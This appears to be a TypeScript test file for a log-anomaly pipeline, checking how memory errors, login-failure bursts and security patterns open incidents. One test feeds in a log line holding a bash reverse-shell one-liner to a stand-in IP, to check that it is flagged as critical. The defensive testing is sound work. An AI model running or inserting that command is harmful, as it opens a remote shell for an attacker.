import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Incident, IncidentChange } from '../model/types.ts';
import { createPipeline } from './create-pipeline.ts';
import { lineBatchOf } from './line-batch-of.ts';
import { loadPatterns } from './load-patterns.ts';
import type { Pipeline } from './pipeline.ts';

const { patterns } = await loadPatterns();
const startMs = Date.UTC(2026, 4, 4);
const minuteMs = 60_000;
const dayMs = 86_400_000;

test('a critical pattern opens an incident by itself, named in the sentence, root line first', () => {
  const run = runOf();
  run.quiet(5);
  run.line('kernel', 'EDAC MC0: 1 CE memory read error on CPU_SrcID#0');
  run.quiet(0.01);
  const [incident, ...others] = run.opened();
  assert.equal(others.length, 0);
  assert.equal(incident?.severity, 'critical');
  assert.ok(incident.kinds.includes('pattern'));
  assert.match(
    incident.explanation.factors.map(({ sentence }) => sentence).join(' '),
    /a line of EDAC_ERROR \(memory bits were wrong\); never from this source in/,
  );
  assert.match(incident.startedWith?.text ?? '', /EDAC MC0/);
});

test('security patterns are told while a host is learned, others are not', () => {
  const learning = runOf();
  learning.quiet(0.1);
  learning.line('bash', 'uid 1000: bash -i >& /dev/tcp/203.0.113.9/4444 0>&1');
  learning.quiet(0.01);
  assert.deepEqual(
    learning.opened().map(({ severity, kinds }) => [severity, kinds.includes('pattern')]),
    [['critical', true]],
  );
  const other = runOf();
  other.quiet(0.1);
  other.line('kernel', 'EDAC MC0: 1 CE memory read error on CPU_SrcID#0');
  other.quiet(0.01);
  assert.deepEqual(other.opened(), []);
});

test('a pattern that comes every day is no news, a burst of it is', () => {
  const run = runOf();
  for (let day = 0; day < 20; day++) {
    for (let i = 0; i < 4; i++) {
      run.quiet(0.25);
      run.line('smbd', `NT_STATUS_LOGON_FAILURE for user u${i}`);
    }
  }
  const before = run.opened().length;
  for (let day = 0; day < 5; day++) {
    run.quiet(0.5);
    run.line('smbd', 'NT_STATUS_LOGON_FAILURE for user u1');
    run.quiet(0.5);
  }
  assert.equal(run.opened().length, before);
  for (let i = 0; i < 300; i++) run.line('smbd', `NT_STATUS_LOGON_FAILURE for user u${i % 5}`, 100);
  run.quiet(0.01);
  assert.ok(run.opened().length > before);
  assert.ok((run.pipeline.status().findings.pattern ?? 0) > 0);
});

test('a storm of wrong passwords is told when it doubles the record, the same again is not', () => {
  const run = runOf();
  const tries = (count: number): void => {
    for (let i = 0; i < count; i++) run.line('smbd', 'NT_STATUS_LOGON_FAILURE for user u1');
    run.quiet(0.5);
  };
  for (let day = 0; day < 20; day++) tries(30);
  const before = run.opened().length;
  tries(45);
  assert.equal(run.opened().length, before);
  tries(150);
  const [storm, ...others] = run.opened().slice(before);
  assert.match(
    storm?.explanation.seen ?? '',
    /^\d+ lines of (?:AUTH_EVENT|SMB_AUTH_FAILED) \(.*\) in an hour$/,
  );
  assert.deepEqual(others, []);
  tries(150);
  assert.equal(run.opened().length, before + 1);
});

test('what is informational is counted and never a finding', () => {
  const run = runOf();
  run.quiet(3);
  run.line('sshd', 'pam_unix(sshd:session): session opened for user alice');
  run.quiet(0.01);
  assert.equal(run.pipeline.status().findings.pattern, undefined);
  const hits = run.pipeline.patterns.hits().filter(({ pattern }) => pattern.name === 'PAM_SESSION');
  assert.deepEqual(
    hits.map(({ hits: lines }) => lines),
    [1],
  );
});

test('a restart within a window changes nothing of what patterns say', () => {
  const lines = [
    'EDAC MC0: 1 CE memory read error on CPU_SrcID#0',
    'EDAC MC0: 2 CE memory read error on CPU_SrcID#1',
  ];
  const whole = runOf();
  whole.quiet(5);
  for (const line of lines) whole.line('kernel', line, 500);
  whole.quiet(0.01);
  const cut = runOf();
  cut.quiet(5);
  for (const line of lines) {
    cut.line('kernel', line, 500);
    cut.restart();
  }
  cut.quiet(0.01);
  assert.deepEqual(
    cut.opened().map((incident) => ({ ...incident, id: '' })),
    whole.opened().map((incident) => ({ ...incident, id: '' })),
  );
  assert.equal(whole.opened().length, 1);
});

interface Run {
  readonly pipeline: Pipeline;
  /** Nothing but a heartbeat for so many days. */
  readonly quiet: (days: number) => void;
  readonly line: (service: string, message: string, afterMs?: number) => void;
  readonly restart: () => void;
  readonly opened: () => readonly Incident[];
}

function make(): ReturnType<typeof createPipeline> {
  return createPipeline({ budget: 3, timezone: 'UTC', patterns });
}

function runOf(): Run {
  let parts = make();
  let nowMs = startMs;
  const changes: IncidentChange[] = [];
  const push = (service: string, message: string): void => {
    const stream = parts.streams.intern({ job: 'journald', host: 'h', service });
    changes.push(...parts.pipeline.push(lineBatchOf(message, nowMs, stream), 'test'));
  };
  return {
    get pipeline() {
      return parts.pipeline;
    },
    quiet(days) {
      const endMs = nowMs + Math.max(10 * minuteMs, days * dayMs);
      for (; nowMs < endMs; nowMs += 10 * minuteMs) {
        push('beat', 'still here');
        push('kernel', 'clock is steady');
        push('smbd', 'share listed');
      }
      changes.push(...parts.pipeline.flush(nowMs));
    },
    line(service, message, afterMs = 1_000) {
      nowMs += afterMs;
      push(service, message);
    },
    restart() {
      const state: unknown = JSON.parse(JSON.stringify(parts.pipeline.snapshot()));
      parts = make();
      parts.pipeline.restore(state as Parameters<Pipeline['restore']>[0]);
    },
    opened: () => changes.flatMap(({ incident, tell }) => (tell === 'opened' ? [incident] : [])),
  };
}
